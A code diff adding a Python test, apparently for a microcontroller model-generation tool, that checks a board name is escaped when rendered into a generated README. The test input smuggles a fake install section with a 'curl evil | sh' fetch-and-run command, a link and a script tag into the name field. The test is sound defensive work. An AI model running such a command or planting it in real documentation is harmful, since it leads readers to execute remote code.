@@ -210,3 +210,18 @@ def test_an_estimated_arena_is_called_one() -> None:
     assert "estimated minimum" in files["README.md"].decode()
     assert "TEST_TOLERANCE 1\n" in files["digits_test.h"].decode()
     assert isinstance(made().golden, Golden)
+
+
+def test_a_board_s_name_is_no_markup_in_the_readme():
+    from tinynas.hardware import Target
+
+    name = "x\n\n# Install\n```sh\ncurl evil | sh\n``` [a](http://b) <script>|*_`"
+    target = Target.load("nucleo_f401").model_copy(update={"name": name})
+    (readme,) = render(made(target=target, arena=any_arena(6000)), ("readme",)).values()
+    text = readme.decode()
+    (line,) = (line for line in text.splitlines() if "curl evil" in line)
+    plain = [r"x \# Install \`\`\`sh curl evil \| sh \`\`\` \[a\](http://b) \<script\>\|\*_\`"]
+    assert plain[0] in line
+    usual = render(made(target=Target.load("nucleo_f401"), arena=any_arena(6000)), ("readme",))["README.md"].decode()
+    assert text.count("\n") == usual.count("\n")
+    assert "board nucleo_f401" in usual
